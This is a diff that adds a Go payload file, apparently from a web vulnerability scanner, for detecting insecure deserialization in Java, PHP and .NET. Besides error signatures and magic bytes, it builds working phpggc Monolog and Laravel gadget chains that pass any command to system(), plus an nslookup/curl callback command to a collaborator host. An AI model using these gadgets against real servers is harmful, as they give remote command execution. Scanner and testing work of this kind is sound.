@@ -0,0 +1,160 @@
+package payloads
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+)
+
+// Serialization formats recognized in parameter and cookie values.
+const (
+	FormatJava                  = "Java"
+	FormatPHP                   = "PHP"
+	FormatViewState             = ".NET ViewState"
+	FormatBinaryFormatter       = ".NET BinaryFormatter"
+	DeserializationUnknownClass = "dursgo.NonexistentClass" // Class of the objects no application defines.
+)
+
+var (
+	// JavaSerializationMagic starts every Java serialization stream (base64 "rO0AB").
+	JavaSerializationMagic = []byte{0xAC, 0xED, 0x00, 0x05}
+	// ViewStateMagic starts an ObjectStateFormatter ViewState that is not encrypted (base64 "/w").
+	ViewStateMagic = []byte{0xFF, 0x01}
+	// BinaryFormatterMagic starts a .NET BinaryFormatter stream (base64 "AAEAAAD/////").
+	BinaryFormatterMagic = []byte{0x00, 0x01, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF}
+	// PHPSerializedRegex matches a value produced by PHP serialize(): an object or an array.
+	PHPSerializedRegex = regexp.MustCompile(`^(?:O:\d+:"[\w\\]+":\d+:\{|a:\d+:\{)`)
+)
+
+// DeserializationErrorSignatures are the messages of each format's deserializer rejecting a
+// malformed object. A signature in the response to a tampered object, and not in the original
+// response, shows that the value is deserialized.
+var DeserializationErrorSignatures = map[string][]string{
+	FormatJava: {
+		"java.io.StreamCorruptedException",
+		"java.io.InvalidClassException",
+		"java.io.OptionalDataException",
+		"java.lang.ClassNotFoundException: " + DeserializationUnknownClass,
+		"java.io.ObjectInputStream.readObject",
+		"invalid stream header",
+	},
+	FormatPHP: {
+		"unserialize(): Error at offset",
+		"__PHP_Incomplete_Class",
+		"unserialize(): Extra data starting at offset",
+	},
+	FormatViewState: {
+		"System.Web.UI.ObjectStateFormatter.Deserialize",
+		"System.Web.UI.LosFormatter.Deserialize",
+		"The serialized data is invalid",
+		"Invalid viewstate",
+	},
+	FormatBinaryFormatter: {
+		"System.Runtime.Serialization.SerializationException",
+		"System.Runtime.Serialization.Formatters.Binary.BinaryFormatter",
+		"End of Stream encountered before parsing was completed",
+		"The input stream is not a valid binary format",
+	},
+}
+
+// ViewStateMACSignatures are the messages of ASP.NET rejecting a ViewState whose MAC does not
+// match: the ViewState is signed, and tampering with it cannot reach the deserializer.
+var ViewStateMACSignatures = []string{
+	"Validation of viewstate MAC failed",
+	"viewstate MAC validation",
+	"MAC of the ViewState",
+}
+
+// phpUnknownClass is the class of the PHP objects no application defines.
+const phpUnknownClass = "DursgoNonexistentClass"
+
+// PHPUnknownClassObject is a serialized object of a class that does not exist, which
+// unserialize() turns into a __PHP_Incomplete_Class.
+var PHPUnknownClassObject = phpObject(phpUnknownClass)
+
+// DeserializationSleepGadget is a gadget chain that pauses the thread deserializing it.
+type DeserializationSleepGadget struct {
+	Format string
+	Name   string // e.g. "CommonsCollections6", after the ysoserial or phpggc chain it follows.
+	Build  func(seconds int) []byte
+}
+
+// DeserializationSleepGadgets are the sleep gadgets, confirmed like the other time-based tests.
+var DeserializationSleepGadgets = []DeserializationSleepGadget{
+	{Format: FormatJava, Name: "CommonsCollections6 (Thread.sleep)", Build: JavaCommonsCollectionsSleepGadget},
+	{Format: FormatPHP, Name: "Monolog/RCE1 (sleep)", Build: func(seconds int) []byte { return []byte(phpMonologGadget(fmt.Sprintf("sleep %d", seconds))) }},
+	{Format: FormatPHP, Name: "Laravel/RCE1 (sleep)", Build: func(seconds int) []byte { return []byte(phpLaravelGadget(fmt.Sprintf("sleep %d", seconds))) }},
+}
+
+// DeserializationCallbackGadget is a gadget chain that makes the target resolve or fetch host
+// on the OOB collaborator.
+type DeserializationCallbackGadget struct {
+	Format string
+	Name   string
+	Build  func(host string) []byte
+}
+
+// DeserializationCallbackGadgets are the out-of-band gadgets.
+var DeserializationCallbackGadgets = []DeserializationCallbackGadget{
+	{Format: FormatJava, Name: "URLDNS", Build: JavaURLDNSGadget},
+	{Format: FormatPHP, Name: "Monolog/RCE1 (nslookup)", Build: func(host string) []byte { return []byte(phpMonologGadget(phpCallbackCommand(host))) }},
+	{Format: FormatPHP, Name: "Laravel/RCE1 (nslookup)", Build: func(host string) []byte { return []byte(phpLaravelGadget(phpCallbackCommand(host))) }},
+}
+
+// phpCallbackCommand returns a shell command resolving host, falling back to an HTTP request.
+func phpCallbackCommand(host string) string {
+	return fmt.Sprintf("nslookup %s || curl -s http://%s/", host, host)
+}
+
+// phpMonologGadget returns the Monolog/RCE1 chain of phpggc (Monolog 1.x): destroying the
+// SyslogUdpHandler flushes a BufferHandler whose processors pass the buffered record to
+// current() and then system().
+func phpMonologGadget(command string) string {
+	buffer := phpArray(phpInt(0), phpArray(phpInt(0), phpString(command), phpString("level"), phpNull))
+	processors := phpArray(phpInt(0), phpString("current"), phpInt(1), phpString("system"))
+	bufferHandler := func(handler string) string {
+		return phpObject(`Monolog\Handler\BufferHandler`,
+			phpProtected("handler"), handler,
+			phpProtected("bufferSize"), phpInt(-1),
+			phpProtected("buffer"), buffer,
+			phpProtected("level"), phpNull,
+			phpProtected("initialized"), phpTrue,
+			phpProtected("bufferLimit"), phpInt(-1),
+			phpProtected("processors"), processors,
+		)
+	}
+	return phpObject(`Monolog\Handler\SyslogUdpHandler`, phpProtected("socket"), bufferHandler(bufferHandler(phpNull)))
+}
+
+// phpLaravelGadget returns the Laravel/RCE1 chain of phpggc: destroying the PendingBroadcast
+// dispatches its event through a Faker Generator whose "dispatch" formatter is system().
+func phpLaravelGadget(command string) string {
+	generator := phpObject(`Faker\Generator`, phpProtected("formatters"), phpArray(phpString("dispatch"), phpString("system")))
+	return phpObject(`Illuminate\Broadcasting\PendingBroadcast`,
+		phpProtected("events"), generator,
+		phpProtected("event"), phpString(command),
+	)
+}
+
+// Values in the format of PHP serialize().
+const (
+	phpNull = "N;"
+	phpTrue = "b:1;"
+)
+
+func phpInt(v int) string       { return fmt.Sprintf("i:%d;", v) }
+func phpString(v string) string { return fmt.Sprintf(`s:%d:"%s";`, len(v), v) }
+
+// phpProtected returns the serialized name of a protected property.
+func phpProtected(name string) string { return phpString("\x00*\x00" + name) }
+
+// phpArray returns an array of the serialized keys and values in keysAndValues.
+func phpArray(keysAndValues ...string) string {
+	return fmt.Sprintf("a:%d:{%s}", len(keysAndValues)/2, strings.Join(keysAndValues, ""))
+}
+
+// phpObject returns an object of class with the serialized property names and values in
+// properties.
+func phpObject(class string, properties ...string) string {
+	return fmt.Sprintf(`O:%d:"%s":%d:{%s}`, len(class), class, len(properties)/2, strings.Join(properties, ""))
+}